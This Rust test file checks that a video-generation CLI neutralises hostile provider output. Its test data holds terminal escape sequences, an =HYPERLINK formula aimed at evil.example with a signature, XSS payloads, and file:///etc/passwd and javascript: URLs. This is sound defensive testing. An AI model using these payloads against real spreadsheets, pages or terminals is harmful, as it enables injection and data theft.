//! What the provider says, and where it says the videos are, is not to be trusted.

use std::fmt::Write as _;

use callsheet::sandbox::{Faults, FileFault, SandboxSettings, When};

use crate::program::{Folder, KEYS, PERSONA, Provider, campaign, contains, quick, rows};

/// A sheet whose rows ask the sandbox for what `marks` say.
fn folder(marks: &[&str]) -> Folder {
    let folder = Folder::new();
    let mut text = String::from("id,text,persona,aspect_ratio\n");
    for (number, mark) in marks.iter().enumerate() {
        let mark = mark.replace('"', "\"\"");
        writeln!(text, "job-{number},\"Hello {mark}\",{PERSONA},9:16").unwrap();
    }
    folder.write("sheet.csv", &text);
    folder
}

/// Nothing of this may reach a terminal: control characters, and what turns the direction of writing.
fn is_harmless(text: &str) -> bool {
    text.chars().all(|c| {
        let turns = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        !turns && (c == '\n' || !c.is_control())
    })
}

#[test]
fn hostile_words_harm_neither_terminal_nor_spreadsheet_nor_page() {
    let folder = folder(&[
        r"[fail: \u001b[31mred \u001b\u005d0;owned\u0007 \r\nhint: lie]",
        r#"[reject: =HYPERLINK(\"http://evil.example/?q=a&Signature=s3cr3t\")]"#,
        r"[fail: <script>alert(1)</script></script><img src=x onerror=alert(2)>]",
        r"[fail: \u202egnp.exe \u2066 \u0000 \u009b31m]",
        r"[status: \u001b[2J=cmd()]",
    ]);
    let provider = Provider::new();
    let run = folder.campaign(&provider, &["-v"]).expect_code(3);
    let mut shown = vec![run.stdout, run.stderr];
    for job in 0..5 {
        let why = folder
            .run(&["why", "sheet.csv", &format!("job-{job}")])
            .expect_code(0);
        shown.push(why.stdout);
    }
    for command in [
        &["status", "sheet.csv"][..],
        &["status", "sheet.csv", "--json"],
    ] {
        shown.push(folder.run(command).expect_code(0).stdout);
    }
    for text in &shown {
        assert!(is_harmless(text), "{text:?}");
    }
    let hostile = rows(&folder.read("sheet-output/results.csv"));
    assert_eq!(hostile.len(), 5);
    for row in &hostile {
        for column in ["status", "error", "video_url", "remote_id"] {
            let cell = &row[column];
            assert!(is_harmless(cell), "{cell:?}");
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    assert!(hostile[0]["error"].contains("red"), "{hostile:?}");
    assert!(hostile[1]["error"].contains("HYPERLINK"), "{hostile:?}");

    let page = folder.read("sheet-output/report.html");
    assert!(
        !page.contains("<script>alert") && !page.contains("<img src=x"),
        "{page}"
    );
    let results: serde_json::Value =
        serde_json::from_str(&folder.read("sheet-output/results.json")).unwrap();
    for job in results["jobs"].as_array().unwrap() {
        assert!(
            is_harmless(job["error"].as_str().unwrap_or_default()),
            "{job:#}"
        );
    }
    // The signature in those words is nowhere, not even in the journal.
    for (path, content) in folder.everything() {
        if path.ends_with("sheet.csv") {
            continue;
        }
        let is_journal = path
            .components()
            .any(|part| part.as_os_str() == ".callsheet");
        let is_told = contains(&content, "s3cr3t");
        // The journal and the results hold the sheet's own text, and that is all they hold of it.
        let own = String::from_utf8_lossy(&content).matches("s3cr3t").count();
        assert!(
            !is_told || is_journal || own <= 2,
            "{}: {own}",
            path.display()
        );
    }
}

#[test]
fn outputs_that_lead_elsewhere_are_refused_and_the_job_waits() {
    let folder = folder(&[
        "[output: file:///etc/passwd]",
        "[output: ftp://files.example/v.mp4]",
        "[output: javascript:alert(1)]",
        "[output: https://user:word@files.example/v.mp4]",
        "[output: data:video/mp4;base64,AAAA]",
        "[output: nonsense]",
    ]);
    let provider = Provider::new();
    let answer = folder.campaign(&provider, &[]).expect_code(8);
    assert!(answer.stderr.contains("collect"), "{}", answer.stderr);
    let results = rows(&folder.read("sheet-output/results.csv"));
    for row in &results {
        assert_eq!(row["status"], "downloading", "{row:?}");
        assert!(!row["error"].is_empty(), "{row:?}");
    }
    let videos = std::fs::read_dir(folder.path("sheet-output/videos"));
    assert_eq!(videos.map_or(0, Iterator::count), 0);
    assert_eq!(provider.ledger().accepted.len(), 6);
    // A later attempt is refused just the same, and nothing is paid again.
    folder
        .run(&campaign("collect", &provider, &[]))
        .expect_code(8);
    assert_eq!(provider.ledger().accepted.len(), 6);
    let page = folder.read("sheet-output/report.html");
    assert!(
        !page.contains("href=\"javascript:") && !page.contains("src=\"file:"),
        "{page}"
    );
}

#[test]
fn a_file_announced_as_larger_than_any_video_is_refused_before_it_fills_the_disk() {
    let faults = Faults {
        files: [(FileFault::TooLong, When::always().amount(10_000_000_000))].into(),
        ..Faults::default()
    };
    let provider = Provider::with(SandboxSettings { faults, ..quick() });
    let folder = Folder::with_sheet(1);
    let answer = folder.campaign(&provider, &[]).expect_code(8);
    assert!(answer.stderr.contains("collect"), "{}", answer.stderr);
    let error = &rows(&folder.read("sheet-output/results.csv"))[0]["error"];
    assert!(error.contains("over the limit"), "{error}");
    assert!(!folder.path("sheet-output/videos/job-01.mp4.part").exists());
}

#[test]
fn keys_and_signatures_are_in_no_file_that_is_passed_on() {
    let faults = Faults {
        // Links are signed as soon as they can expire.
        files: [(FileFault::Expires, When::always().amount(60_000))].into(),
        ..Faults::default()
    };
    let provider = Provider::with(SandboxSettings { faults, ..quick() });
    let folder = Folder::with_sheet(3);
    let run = folder
        .campaign(&provider, &["-v", "--log-format", "json"])
        .expect_code(0);
    let mut shown = vec![("output".to_owned(), run.stderr.into_bytes())];
    for (path, content) in folder.everything() {
        let is_journal = path
            .file_name()
            .is_some_and(|name| name.to_string_lossy().starts_with("journal.sqlite"));
        assert!(
            !KEYS.iter().any(|key| contains(&content, key)),
            "{}",
            path.display()
        );
        if !is_journal {
            shown.push((path.display().to_string(), content));
        }
    }
    let record = callsheet::journal::JournalSnapshot::read(&folder.path("sheet-output"))
        .unwrap()
        .unwrap();
    let journal = serde_json::to_string(&record.entries).unwrap();
    let (_, query) = journal.split_once(".mp4?").unwrap();
    let signature = query.split(['"', '&']).next().unwrap();
    assert!(signature.len() > 5, "{signature}");
    for (place, content) in shown {
        assert!(!contains(&content, signature), "{place}");
    }
}

#[test]
fn nothing_that_holds_keys_shows_them() {
    use callsheet::model::Credentials;
    use callsheet::remote::{Remote, Settings};

    let credentials = || Credentials::new(KEYS[0].to_owned(), KEYS[1].to_owned());
    let settings = || {
        let address = "https://api.example".parse().unwrap();
        Settings::new(address, credentials(), "out".into())
    };
    let remote = Remote::new(settings()).unwrap();
    for shown in [
        format!("{:?} {:#?}", credentials(), credentials()),
        format!("{:?} {:#?}", settings(), settings()),
        format!("{remote:?} {remote:#?}"),
    ] {
        assert!(!KEYS.iter().any(|key| shown.contains(key)), "{shown}");
    }
}
